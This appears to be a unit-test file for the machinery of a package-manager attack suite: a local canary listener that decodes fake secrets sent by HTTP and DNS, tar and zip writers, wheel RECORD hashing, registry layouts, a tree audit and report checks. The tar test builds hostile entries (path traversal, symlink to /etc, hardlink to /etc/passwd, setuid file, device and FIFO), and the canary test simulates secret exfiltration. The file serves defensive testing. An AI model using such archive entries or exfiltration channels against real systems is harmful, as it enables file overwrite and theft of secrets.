// Unit tests of the attack suite's own machinery (no Docker, no registries): the canary listener's three
// channels, the raw tar and zip writers (read back with node-tar and yauzl), wheel RECORD hashes, the
// registry layouts, the tree audit and the report check. If these were wrong, the matrix could pass
// while proving nothing.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { link, mkdir, mkdtemp, readFile, rm, symlink, writeFile, chmod } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { Parser, type ReadEntry } from 'tar';
import yauzl from 'yauzl';
import { CanaryListener, parseDnsQuestion } from '../support/canaryListener';
import { crateIndexPath, escapeGoModulePath, normalizePythonName, writePythonIndex } from '../support/localRegistries';
import { reportFlagsPackage, reportRefusesPackage } from './attacks';
import { wheel } from './fixturePackages';
import { tar, tarGz } from './tarWriter';
import { auditTree } from './treeAudit';
import { zip } from './zipWriter';

function dnsQuery(labels: string[]): Buffer {
  const parts = [Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])];
  for (const l of labels) parts.push(Buffer.from([l.length]), Buffer.from(l));
  parts.push(Buffer.from([0, 0, 1, 0, 1]));
  return Buffer.concat(parts);
}

test('canary listener records and decodes POST bodies, base64url GET paths and DNS hex labels', async () => {
  const listener = await CanaryListener.start();
  try {
    const secret = 'SICANARY00ff-env-aws';
    await (await fetch(`http://127.0.0.1:${listener.httpPort}/post/demo`, { method: 'POST', body: `{"k":"${secret}"}` })).arrayBuffer();
    await (await fetch(`http://127.0.0.1:${listener.httpPort}/get/demo/${Buffer.from(secret).toString('base64url')}`)).arrayBuffer();
    const sock = createSocket('udp4');
    const hex = Buffer.from(secret).toString('hex');
    sock.send(dnsQuery([hex.slice(0, 30), hex.slice(30), 'demo', 'exfil', 'test']), listener.dnsPort, '127.0.0.1');
    const [reply] = (await once(sock, 'message')) as [Buffer];
    sock.close();
    assert.equal(reply.readUInt16BE(0), 0x1234, 'the stub answers with the query id');
    assert.equal(reply.readUInt16BE(2) & 0xf, 3, 'NXDOMAIN');
    const contacts = listener.contactsFor('demo');
    assert.deepEqual(contacts.map((c) => c.channel).sort(), ['dns', 'http-get', 'http-post']);
    for (const c of contacts) assert.ok(c.decoded.includes(secret), `${c.channel} decoded: ${c.decoded}`);
    const bytes = listener.canaryBytes(contacts, [secret]);
    assert.deepEqual(bytes.channels, ['dns', 'http-get', 'http-post']);
    assert.ok(bytes.bytes > secret.length * 3);
    assert.equal(listener.canaryBytes(contacts, ['SICANARYother']).bytes, 0);
    assert.equal(await listener.waitFor((c) => c.attack === 'never', 20), false);
  } finally {
    await listener.close();
  }
});

test('DNS question parser refuses truncated and oversized labels', () => {
  assert.equal(parseDnsQuestion(Buffer.alloc(5)), undefined);
  const ok = dnsQuery(['ab', 'exfil', 'test']);
  assert.equal(parseDnsQuestion(ok)?.name, 'ab.exfil.test');
  assert.equal(parseDnsQuestion(ok.subarray(0, 15)), undefined);
  const bad = Buffer.from(ok);
  bad[12] = 64;
  assert.equal(parseDnsQuestion(bad), undefined);
});

async function readTar(data: Buffer): Promise<Array<{ path: string; type: string; linkpath?: string; mode?: number; size?: number; body: string }>> {
  const out: Array<{ path: string; type: string; linkpath?: string; mode?: number; size?: number; body: string }> = [];
  const parser = new Parser({ strict: true });
  parser.on('entry', (entry: ReadEntry) => {
    const chunks: Buffer[] = [];
    entry.on('data', (c: Buffer) => chunks.push(c));
    entry.on('end', () => out.push({ path: entry.path, type: entry.type, linkpath: entry.linkpath, mode: entry.mode, size: entry.size, body: Buffer.concat(chunks).toString() }));
  });
  const done = once(parser, 'end');
  parser.end(data);
  await done;
  return out;
}

test('tar writer emits exactly the hostile entries it is given (read back by node-tar)', async () => {
  const long = `package/${'d'.repeat(90)}/${'f'.repeat(60)}.txt`;
  const entries = await readTar(tar([
    { type: 'file', path: 'package/../../escape.txt', data: 'x' },
    { type: 'file', path: '/abs/escape.txt', data: 'abs' },
    { type: 'symlink', path: 'package/link', target: '/etc' },
    { type: 'hardlink', path: 'package/hard', target: '/etc/passwd' },
    { type: 'chardev', path: 'package/dev', major: 1, minor: 5 },
    { type: 'fifo', path: 'package/fifo' },
    { type: 'file', path: 'package/suid', data: 'id', mode: 0o4755 },
    { type: 'file', path: long, data: 'long' },
  ]));
  assert.deepEqual(entries.map((e) => [e.path, e.type]), [
    ['package/../../escape.txt', 'File'], ['/abs/escape.txt', 'File'], ['package/link', 'SymbolicLink'], ['package/hard', 'Link'],
    ['package/dev', 'CharacterDevice'], ['package/fifo', 'FIFO'], ['package/suid', 'File'], [long, 'File'],
  ]);
  assert.equal(entries[2]?.linkpath, '/etc');
  assert.equal(entries[3]?.linkpath, '/etc/passwd');
  assert.equal(entries[6]?.mode, 0o4755);
  assert.equal(entries[7]?.body, 'long');
  assert.equal(entries[1]?.body, 'abs');
  // Deterministic: the same entries give the same bytes (stable fixture hashes across runs).
  assert.deepEqual(tarGz([{ type: 'file', path: 'a', data: 'b' }]), tarGz([{ type: 'file', path: 'a', data: 'b' }]));
});

function readZip(data: Buffer): Promise<Map<string, Buffer>> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(data, { lazyEntries: true }, (err, zf) => {
      if (err || !zf) return reject(err ?? new Error('no zip'));
      const files = new Map<string, Buffer>();
      zf.on('entry', (entry: yauzl.Entry) => {
        zf.openReadStream(entry, (e2, stream) => {
          if (e2 || !stream) return reject(e2 ?? new Error('no stream'));
          const chunks: Buffer[] = [];
          stream.on('data', (c: Buffer) => chunks.push(c));
          stream.on('end', () => { files.set(entry.fileName, Buffer.concat(chunks)); zf.readEntry(); });
        });
      });
      zf.on('end', () => resolve(files));
      zf.on('error', reject);
      zf.readEntry();
    });
  });
}

test('zip writer output reads back with yauzl (CRC and sizes checked)', async () => {
  const big = Buffer.alloc(100_000, 7);
  const files = await readZip(zip([{ path: 'a/b.txt', data: 'hello' }, { path: 'big.bin', data: big }]));
  assert.equal(files.get('a/b.txt')?.toString(), 'hello');
  assert.deepEqual(files.get('big.bin'), big);
});

test('wheels carry a RECORD whose hashes and sizes match their files', async () => {
  const w = wheel('si-demo', '1.0.0', { 'si_demo/__init__.py': 'x = 1\n', 'si_demo.pth': 'import si_demo\n' });
  assert.equal(w.filename, 'si_demo-1.0.0-py3-none-any.whl');
  const files = await readZip(w.data);
  const record = files.get('si_demo-1.0.0.dist-info/RECORD')?.toString() ?? '';
  const rows = record.trim().split('\n').map((l) => l.split(','));
  assert.equal(rows.length, files.size);
  for (const [p, hash, size] of rows) {
    if (p === 'si_demo-1.0.0.dist-info/RECORD') continue;
    const data = files.get(p ?? '');
    assert.ok(data, `RECORD lists ${p}`);
    assert.equal(hash, `sha256=${createHash('sha256').update(data).digest('base64url')}`);
    assert.equal(Number(size), data.length);
  }
});

test('registry layouts: cargo index paths, PEP 503 names and pages, Go path escaping', async () => {
  assert.equal(crateIndexPath('a'), '1/a');
  assert.equal(crateIndexPath('ab'), '2/ab');
  assert.equal(crateIndexPath('abc'), '3/a/abc');
  assert.equal(crateIndexPath('Serde_Json'), 'se/rd/serde_json');
  assert.equal(normalizePythonName('Si_Attack.Pth'), 'si-attack-pth');
  assert.equal(escapeGoModulePath('github.com/BurntSushi/toml'), 'github.com/!burnt!sushi/toml');
  const dir = await mkdtemp(path.join(os.tmpdir(), 'si-index-'));
  try {
    const data = Buffer.from('sdist bytes');
    await writePythonIndex(dir, [{ project: 'Si_Demo', filename: 'si_demo-1.0.tar.gz', data }]);
    const page = await readFile(path.join(dir, 'simple', 'si-demo', 'index.html'), 'utf8');
    assert.match(page, new RegExp(`href="\\.\\./\\.\\./files/si_demo-1\\.0\\.tar\\.gz#sha256=${createHash('sha256').update(data).digest('hex')}"`));
    assert.deepEqual(await readFile(path.join(dir, 'files', 'si_demo-1.0.tar.gz')), data);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

test('tree audit finds links out, hardlinks and setuid files, and accepts links that stay inside', async () => {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'si-audit-'));
  try {
    await mkdir(path.join(dir, 'node_modules', '.bin'), { recursive: true });
    await writeFile(path.join(dir, 'node_modules', 'tool.js'), '');
    await symlink('../tool.js', path.join(dir, 'node_modules', '.bin', 'tool'));
    assert.deepEqual(await auditTree(dir), []);
    await symlink('/etc/passwd', path.join(dir, 'abs'));
    await symlink('../..', path.join(dir, 'up'));
    await writeFile(path.join(dir, 'suid'), '');
    await chmod(path.join(dir, 'suid'), 0o4755);
    await link(path.join(dir, 'node_modules', 'tool.js'), path.join(dir, 'hard'));
    const found = (await auditTree(dir)).map((v) => `${v.what} ${v.path}`).sort();
    assert.deepEqual(found, ['hardlink hard', 'hardlink node_modules/tool.js', 'setuid suid', 'symlink-absolute abs', 'symlink-outside up']);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

test('report check: a finding flags a package only at warning level or above and only for that package', () => {
  const report = { packages: [{ name: 'si-attack-preinstall', findings: [{ rule: 'install-script', severity: 'critical' }] }, { name: 'other', findings: [{ severity: 'info' }] }] };
  assert.equal(reportFlagsPackage(report, 'si-attack-preinstall'), true);
  assert.equal(reportFlagsPackage(report, 'other'), false);
  assert.equal(reportFlagsPackage(report, 'absent'), false);
  assert.equal(reportFlagsPackage({ findings: [{ severity: 'warning', message: 'si-attack-pth ships a .pth file' }] }, 'si-attack-pth'), true);
  assert.equal(reportFlagsPackage({ findings: [] }, 'si-attack-pth'), false);
});

test('report check: a refusal counts only when the run did not install and its message names the package', () => {
  assert.equal(reportRefusesPackage({ verdict: 'failed', message: "copy-out refused: FIFO 'work/node_modules/si-attack-copyout/fifo'" }, 'si-attack-copyout'), true);
  assert.equal(reportRefusesPackage({ verdict: 'installed', message: 'si-attack-copyout installed' }, 'si-attack-copyout'), false);
  assert.equal(reportRefusesPackage({ verdict: 'failed', message: 'Docker is not running' }, 'si-attack-copyout'), false);
  assert.equal(reportRefusesPackage('not a report', 'x'), false);
});
